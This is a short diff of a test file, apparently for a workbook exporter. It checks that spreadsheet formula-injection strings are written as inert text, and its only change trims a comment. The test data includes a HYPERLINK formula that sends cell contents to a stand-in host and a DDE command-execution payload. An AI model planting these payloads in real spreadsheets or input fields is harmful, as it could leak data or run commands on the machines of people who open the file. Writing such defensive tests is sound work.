@@ -413,7 +413,7 @@ describe("the workbook is safe", () => {
   });
 
   it("writes the exceljs writer's formula attacks, a carriage return among them, as the text they are", async () => {
-    // The same set as the exceljs writer's test (test/workbook/exceljs/writer.test.ts, issue 5).
+    // The same set as the exceljs writer's test (test/workbook/exceljs/writer.test.ts).
     const attacks = ['=HYPERLINK("http://example.com/?q="&A1,"Klicka")', "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"];
     const layout = tableSheet({
       name: "Angrepp",
